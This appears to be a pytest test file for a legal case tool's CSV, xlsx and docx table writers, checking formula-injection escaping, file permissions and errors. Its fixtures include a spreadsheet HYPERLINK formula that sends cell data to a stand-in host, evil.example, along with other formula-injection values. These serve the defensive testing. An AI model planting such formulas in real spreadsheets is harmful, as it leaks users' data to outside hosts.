"""The table writers (app/tabular.py): CSV with a BOM, .xlsx and .docx read back with the same
libraries, formula injection neutralised, 0600 files, clear errors."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from casetrack.app.tabular import neutralise, table_format, write_table
from casetrack.errors import CaseTrackError

COLUMNS = ("question", "rank", "passage", "score", "no_good_match")
ROWS: list[dict[str, Any]] = [
    {
        "question": "Qual é o prazo de rescisão?",
        "rank": 1,
        "passage": "Ação rescisória: trinta (30) dias, ç ã é",
        "score": 0.82,
        "no_good_match": False,
    },
    # document text an opposing party controls: each would run as a formula in Excel / LibreOffice
    {
        "question": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "rank": 2,
        "passage": "+1-555-0100 call",
        "score": None,
        "no_good_match": True,
    },
    {"question": "-2+3", "rank": 3, "passage": "@SUM(A1:A9)", "score": 0.1, "no_good_match": False},
    {
        "question": "\tcmd",
        "rank": None,
        "passage": "plain - text = fine",
        "score": 0.0,
        "no_good_match": False,
    },
]


def test_neutralise_only_touches_text_that_starts_like_a_formula() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("+1") == "'+1" and neutralise("-1") == "'-1"
    assert neutralise("@cmd") == "'@cmd" and neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("a = b") == "a = b" and neutralise("") == "" and neutralise(-1.5) == -1.5
    assert neutralise(None) is None


def test_csv_has_a_bom_keeps_accents_and_neutralises_formulas(tmp_path: Path) -> None:
    out = write_table(tmp_path / "t.csv", COLUMNS, ROWS)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == list(COLUMNS)
    assert rows[1] == [
        "Qual é o prazo de rescisão?",
        "1",
        "Ação rescisória: trinta (30) dias, ç ã é",
        "0.82",
        "no",
    ]
    assert rows[2][0].startswith("'=HYPERLINK(") and rows[2][2] == "'+1-555-0100 call" and rows[2][3] == ""
    assert rows[2][4] == "yes"
    assert rows[3] == ["'-2+3", "3", "'@SUM(A1:A9)", "0.1", "no"]
    assert rows[4][0] == "'\tcmd" and rows[4][1] == "" and rows[4][2] == "plain - text = fine"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_xlsx_reads_back_with_numbers_as_numbers_and_no_formulas(tmp_path: Path) -> None:
    out = write_table(tmp_path / "t.xlsx", COLUMNS, ROWS, title="Evidence table: Smith v. Jones")
    sheet = load_workbook(out).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == list(COLUMNS) and sheet.title == "Evidence table - Smith v. Jones"
    assert values[1] == [
        "Qual é o prazo de rescisão?",
        1,
        "Ação rescisória: trinta (30) dias, ç ã é",
        0.82,
        "no",
    ]
    assert values[2][0].startswith("'=HYPERLINK(") and values[2][2] == "'+1-555-0100 call"
    assert values[3][0] == "'-2+3" and values[3][2] == "'@SUM(A1:A9)"
    # openpyxl would store a string starting with "=" as a formula: none is left
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_docx_is_a_table_with_the_text_as_it_is(tmp_path: Path) -> None:
    out = write_table(tmp_path / "t.docx", COLUMNS, ROWS, title="Evidence table")
    document = Document(str(out))
    assert document.paragraphs[0].text == "Evidence table"
    (table,) = document.tables
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[0] == list(COLUMNS) and len(cells) == len(ROWS) + 1
    assert cells[1] == [
        "Qual é o prazo de rescisão?",
        "1",
        "Ação rescisória: trinta (30) dias, ç ã é",
        "0.82",
        "no",
    ]
    assert cells[2][0].startswith("=HYPERLINK(")  # Word never evaluates it: shown as written
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_unknown_extension_names_the_supported_ones_and_writes_nothing(tmp_path: Path) -> None:
    for name in ("t.pdf", "t"):
        with pytest.raises(CaseTrackError) as e:
            write_table(tmp_path / name, COLUMNS, ROWS)
        assert ".csv, .xlsx, .docx" in str(e.value)
    assert list(tmp_path.iterdir()) == []
    assert table_format(Path("A.XLSX")) == "xlsx"


def test_replace_and_exclusive(tmp_path: Path) -> None:
    target = tmp_path / "t.csv"
    target.write_text("old")
    target.chmod(0o644)
    write_table(target, COLUMNS, ROWS[:1])
    assert (
        "rescisão" in target.read_text(encoding="utf-8-sig") and stat.S_IMODE(target.stat().st_mode) == 0o600
    )
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # no temporary file left
    with pytest.raises(CaseTrackError, match="already exists"):
        write_table(target, COLUMNS, ROWS, exclusive=True)
    assert write_table(tmp_path / "new.csv", COLUMNS, ROWS, exclusive=True).is_file()
    with pytest.raises(CaseTrackError, match="does not exist"):
        write_table(tmp_path / "missing" / "t.csv", COLUMNS, ROWS)
